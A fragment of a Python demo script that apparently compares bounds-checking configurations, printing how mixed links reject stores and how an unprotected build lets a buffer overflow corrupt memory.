    print("the mixed link runs; but the untransformed library returns")
    print("pointers with NULL bounds, so even the *legitimate* first store")
    print("through table_slot(0) is conservatively rejected.  This is the")
    print("compatibility pressure that makes the paper's transformed-library")
    print("distribution model (or wrappers) necessary.\n")
    assert result.detected_violation

    print("=== 3. Unprotected link for comparison ===")
    result = build("none", "none").run()
    print(f"trap: {result.trap}, exit code: {result.exit_code}")
    print("the overflow silently corrupts whatever neighbours the table.")
    assert result.trap is None


if __name__ == "__main__":
    main()
